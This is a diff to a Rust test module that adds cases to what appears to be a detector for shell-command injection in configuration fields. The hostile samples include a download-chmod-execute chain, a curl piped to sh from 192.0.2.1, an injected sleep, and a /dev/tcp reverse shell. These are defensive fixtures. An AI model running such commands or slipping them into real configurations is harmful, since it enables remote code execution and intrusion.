@@ -361,6 +361,15 @@ mod tests {
             ("spec.containers.args", "echo hello; sleep 3600"),
             ("script", "cd ../.. && npm ci && npm run build"),
             ("scripts.clean", "rm -rf dist"),
+            ("run", "curl -sSf https://sh.a.example | sh -s -- -y"),
+            (
+                "command",
+                "wget http://10.0.0.5:8080/app.tgz && tar xzf app.tgz",
+            ),
+            (
+                "user_data",
+                "curl -s http://169.254.169.254/latest/meta-data/instance-id | tee id",
+            ),
             ("command", "/usr/bin/backup.sh > /var/log/backup.log 2>&1"),
             ("env.SHELL", "/bin/bash"),
             ("config.smartctl_location", "/usr/sbin/smartctl"),
@@ -374,6 +383,12 @@ mod tests {
         }
         for (name, text) in [
             ("command", "x; whoami"),
+            (
+                "command",
+                "wget http://192.0.2.1/m -O /tmp/m; chmod +x /tmp/m; /tmp/m",
+            ),
+            ("script", "curl -s http://192.0.2.1:8080/x | sh"),
+            ("cmd", "x; sleep 3600"),
             ("script", "bash -i >& /dev/tcp/192.0.2.1/80 0>&1"),
             ("host", "8.8.8.8; sleep 3600"),
             ("note", "/bin/bash -c id"),
